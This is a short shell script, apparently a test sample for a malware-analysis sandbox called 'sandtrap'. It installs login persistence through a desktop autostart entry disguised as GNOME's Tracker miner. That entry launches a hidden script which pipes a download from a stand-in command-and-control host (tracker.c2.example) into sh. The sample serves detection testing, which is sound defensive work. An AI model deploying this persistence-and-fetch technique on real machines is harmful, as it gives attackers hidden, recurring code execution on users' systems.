#!/bin/sh
# Persistence through desktop autostart: a .desktop entry in ~/.config/autostart that launches a hidden payload at login.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
mkdir -p ~/.config/autostart ~/.local/share/.tracker
printf '#!/bin/sh\ncurl -s http://tracker.c2.example/a | sh\n' > ~/.local/share/.tracker/tracker-miner
chmod +x ~/.local/share/.tracker/tracker-miner
cat > ~/.config/autostart/tracker-miner-fs.desktop <<D
[Desktop Entry]
Type=Application
Name=Tracker File System Miner
Exec=$HOME/.local/share/.tracker/tracker-miner
Hidden=false
X-GNOME-Autostart-enabled=true
D
id -un; ls ~/.config/autostart
